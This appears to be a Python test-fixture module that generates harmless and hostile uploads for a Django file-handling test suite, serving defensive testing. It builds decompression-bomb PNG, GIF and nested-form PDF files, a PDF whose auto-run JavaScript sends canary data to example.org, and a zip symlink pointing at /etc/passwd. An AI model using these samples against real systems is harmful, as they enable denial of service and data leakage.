"""Invented files, kind and hostile, made while the test runs."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping, Sequence

from django.test import RequestFactory
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from convive.files.uploads import SealedUpload, SealedUploadHandler

CANARY = b"canary-of-the-harbour"
ORIENTATION, MAKE, ARTIST, DATE, GPS = 0x0112, 0x010F, 0x013B, 0x0132, 0x8825
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


def an_upload(content: bytes = CANARY * 9_000, name: str = "list.csv") -> SealedUpload:
    """A file as it comes out of the upload handler."""
    handler = SealedUploadHandler(RequestFactory().post("/"))
    handler.new_file("file", name, "text/csv", len(content))
    for start in range(0, len(content), 65_536):
        handler.receive_data_chunk(content[start : start + 65_536], start)
    return handler.file_complete(len(content))


def a_picture(
    size: tuple[int, int] = (60, 40), colour: str = "red", mode: str = "RGB"
) -> Image.Image:
    """One colour, with a blue left edge so that it has a right way up."""
    image = Image.new(mode, size, colour)
    image.paste("blue", (0, 0, size[0] // 4, size[1]))
    return image


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    """The picture as a file."""
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def a_photo(words: bytes = CANARY) -> bytes:
    """A JPEG as a telephone makes it: place, camera, date, author, preview, comment, on its side."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[MAKE] = 6, words.decode()
    exif[ARTIST], exif[DATE] = words.decode(), "2026:01:02 03:04:05"
    exif[GPS] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 8.0)}
    heading = exif.tobytes()
    preview = encoded(a_picture((16, 16), "green"), "JPEG", comment=words)
    return encoded(
        a_picture(),
        "JPEG",
        exif=_with_preview(heading, preview),
        comment=words,
        icc_profile=words * 20,
        xmp=b"<x:xmpmeta><dc:creator>" + words + b"</dc:creator></x:xmpmeta>",
    )


def _with_preview(heading: bytes, preview: bytes) -> bytes:
    """An EXIF block with a second directory that points at a small picture."""
    block = bytearray(heading.removeprefix(b"Exif\x00\x00"))
    order = "<" if block[:2] == b"II" else ">"
    at = struct.unpack_from(order + "I", block, 4)[0]
    count = struct.unpack_from(order + "H", block, at)[0]
    second = len(block) + len(block) % 2
    struct.pack_into(order + "I", block, at + 2 + 12 * count, second)
    block += bytes(second - len(block))
    start = second + 2 + 12 * 2 + 4
    block += struct.pack(order + "H", 2)
    block += struct.pack(order + "HHII", 0x0201, 4, 1, start)
    block += struct.pack(order + "HHII", 0x0202, 4, 1, len(preview))
    block += struct.pack(order + "I", 0) + preview
    return b"Exif\x00\x00" + bytes(block)


def a_drawing_with_words(words: bytes = CANARY) -> bytes:
    """A PNG with an author and a comment."""
    info = PngInfo()
    info.add_text("Author", words.decode())
    info.add_itxt("Comment", words.decode())
    return encoded(a_picture(), "PNG", pnginfo=info)


def a_huge_heading(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of few bytes that says it has billions of pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    heading = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1_000_000))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", heading)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def a_long_film(frames: int = 100_000) -> bytes:
    """A GIF with very many frames: one real, then the last one again and again."""
    whole = encoded(
        a_picture((8, 8)), "GIF", save_all=True, append_images=[a_picture((8, 8), "green")]
    )
    at = whole.rindex(b"\x21\xf9\x04")
    return whole[:at] + whole[at:-1] * frames + whole[-1:]


def a_pdf(objects: Sequence[bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF written by hand from its objects, numbered from one."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        *(len(objects) + 1, root, trailer, start),
    )
    return bytes(out)


def a_stream(content: bytes, about: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (about, len(content), content)


def a_paper(pages: int = 1, size: str = "300 400") -> bytes:
    """A harmless PDF: each page a black square."""
    kids = b" ".join(b"%d 0 R" % (4 + number) for number in range(pages))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %s]/Contents 3 0 R>>" % size.encode()
    return a_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
            a_stream(b"0 g 50 50 100 100 re f"),
            *[page] * pages,
        ]
    )


def a_hostile_paper(words: bytes = CANARY) -> bytes:
    """A PDF that runs a script when opened, carries a file, calls a server and names its author."""
    return a_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</EmbeddedFiles<</Names"
            b"[(secret.txt) 5 0 R]>>>>>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 7 0 R/Annots[8 0 R]>>",
            b"<</S/JavaScript/JS(app.launchURL\\('http://example.org/%s'\\))>>" % words,
            b"<</Type/Filespec/F(secret.txt)/EF<</F 6 0 R>>>>",
            a_stream(words, b"/Type/EmbeddedFile"),
            a_stream(b"0 g 50 50 100 100 re f"),
            b"<</Type/Annot/Subtype/Link/Rect[50 50 150 150]/A<</S/URI/URI(http://example.org/%s)>>>>"
            % words,
            b"<</Author(%s)/CreationDate(D:20260102030405Z)/Producer(x)>>" % words,
        ],
        trailer=b"/Info 9 0 R",
    )


def a_paper_that_never_ends(depth: int = 12, width: int = 20, words: bytes = CANARY) -> bytes:
    """A PDF of a few kilobytes whose one page is drawn from forms within forms within forms."""
    forms = []
    for level in range(depth):
        inner = b"/X Do " * width if level < depth - 1 else b"0 0 300 400 re f " * 50
        held = b"/Resources<</XObject<</X %d 0 R>>>>" % (5 + level) if level < depth - 1 else b""
        forms.append(a_stream(inner, b"/Type/XObject/Subtype/Form/BBox[0 0 300 400]" + held))
    return a_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Note(%s)>>" % words,
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Resources<</XObject<</X 5 0 R>>>>"
            b"/Contents 4 0 R>>",
            *[a_stream(b"/X Do"), *forms],
        ]
    )


def a_zip(parts: Mapping[str, bytes] | None = None) -> bytes:
    """A zip of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (parts or {"letter.txt": b"Good morning"}).items():
            archive.writestr(name, content)
    return out.getvalue()


def a_zip_with_link() -> bytes:
    """A zip that holds a link out of its folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def a_document(extra: Mapping[str, bytes] | None = None) -> bytes:
    """A .docx, as far as its list of parts goes."""
    return a_zip(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", **(extra or {})}
    )
